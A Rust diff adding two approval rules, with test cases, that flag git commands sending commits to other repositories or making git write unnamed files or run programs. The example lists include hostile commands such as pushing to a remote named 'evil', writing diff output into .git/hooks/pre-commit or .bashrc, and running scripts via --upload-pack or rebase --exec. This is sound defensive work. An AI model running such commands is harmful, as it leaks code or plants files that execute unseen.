@@ -82,6 +82,63 @@ pub(super) static RULES: &[Rule] = &[
             Run("git config --get core.hooksPath"),
         ],
     },
+    Rule {
+        id: "git-elsewhere",
+        because: "sends commits to another repository, or decides where they go",
+        decision: Decision::Ask,
+        risk: RiskClass::Elevated,
+        matches: Matcher::Step(sends),
+        must: &[
+            Run("git push"),
+            Run("git push origin main"),
+            Run("git -C sub push https://example.org/x.git HEAD"),
+            Run("git remote add evil https://example.org/x.git"),
+            Run("git remote set-url origin https://example.org/x.git"),
+            Run("git config remote.origin.url https://example.org/x.git"),
+            Run("git send-email 0001.patch"),
+            Run("git send-pack ../x"),
+        ],
+        must_not: &[
+            Run("git status"),
+            Run("git fetch"),
+            Run("git remote -v"),
+            Run("git commit -m 'push it'"),
+            Run("git stash push"),
+            Run("git config --get remote.origin.url"),
+        ],
+    },
+    Rule {
+        id: "git-files",
+        because: "makes git write files that nobody names, or run a program",
+        decision: Decision::Ask,
+        risk: RiskClass::Elevated,
+        matches: Matcher::Step(writes_or_runs),
+        must: &[
+            Run("git diff --output=.git/hooks/pre-commit"),
+            Run("git log --output .bashrc"),
+            Run("git apply x.patch"),
+            Run("git am < x.mbox"),
+            Run("git archive -o x.tar HEAD"),
+            Run("git bisect run ./x.sh"),
+            Run("git rebase --exec ./x.sh main"),
+            Run("git rebase -x ./x.sh main"),
+            Run("git submodule foreach ./x.sh"),
+            Run("git grep -O./x.sh needle"),
+            Run("git fetch --upload-pack=./x.sh ../y"),
+            Run("git difftool -x ./x.sh"),
+        ],
+        must_not: &[
+            Run("git diff --stat main..topic"),
+            Run("git log --oneline -5"),
+            Run("git add -A"),
+            Run("git commit -am 'apply it'"),
+            Run("git rebase main"),
+            Run("git show HEAD"),
+            Run("git grep -n needle"),
+            Run("git apply --check x.patch"),
+            Run("git bisect good"),
+        ],
+    },
 ];
 
 /// The subcommand of `git` and its arguments, behind options such as `-C dir`.
@@ -157,6 +214,48 @@ fn discards(step: &Step) -> bool {
     }
 }
 
+fn sends(step: &Step) -> bool {
+    let Some((subcommand, args)) = git(step) else { return false };
+    match subcommand {
+        "push" | "send-email" | "send-pack" | "http-push" | "imap-send" => true,
+        "remote" => any(args, |word| matches!(word, "add" | "set-url" | "rename")),
+        "config" => {
+            let key = |word: &str| {
+                let key = word.to_lowercase();
+                ["remote.", "url.", "branch."].iter().any(|start| key.starts_with(start))
+            };
+            !reads_settings(args) && any(args, key)
+        }
+        _ => false,
+    }
+}
+
+fn writes_or_runs(step: &Step) -> bool {
+    let Some((subcommand, args)) = git(step) else { return false };
+    // Git takes the beginning of a long option for the whole.
+    let long = |start: &str| any(args, |word| word.starts_with(start));
+    let told = |word: &str| any(args, |arg| arg == word);
+    if long("--outp") || long("--upload-pack") || long("--receive-pack") || long("--ext-diff") {
+        return true;
+    }
+    match subcommand {
+        "apply" => !["--check", "--stat", "--numstat", "--summary"].iter().any(|it| told(it)),
+        "am" | "mergetool" | "fast-import" | "daemon" | "instaweb" => true,
+        "archive" | "bundle" => subcommand == "bundle" && told("create") || option(args, 'o', "-o"),
+        "bisect" => told("run"),
+        "difftool" => true,
+        "rebase" => long("--exec") || told("-x"),
+        "submodule" => told("foreach"),
+        "grep" => option(args, 'O', "--open-files-in-pager"),
+        _ => false,
+    }
+}
+
+/// Whether `git config` only shows.
+fn reads_settings(args: &[Word]) -> bool {
+    any(args, |word| word.starts_with("--get") || matches!(word, "-l" | "--list" | "get" | "list"))
+}
+
 fn sets_program(step: &Step) -> bool {
     const KEYS: &[&str] = &[
         "core.hookspath",
@@ -179,9 +278,7 @@ fn sets_program(step: &Step) -> bool {
             || key.starts_with("include")
     };
     let Some((subcommand, args)) = git(step) else { return false };
-    let reads = any(args, |word| {
-        word.starts_with("--get") || matches!(word, "-l" | "--list" | "get" | "list")
-    });
+    let reads = reads_settings(args);
     let given = step.args.windows(2).any(|pair| match pair {
         [option, value] if option.text == "-c" => {
             value.text.split_once('=').is_some_and(|(key, _)| runs(key))
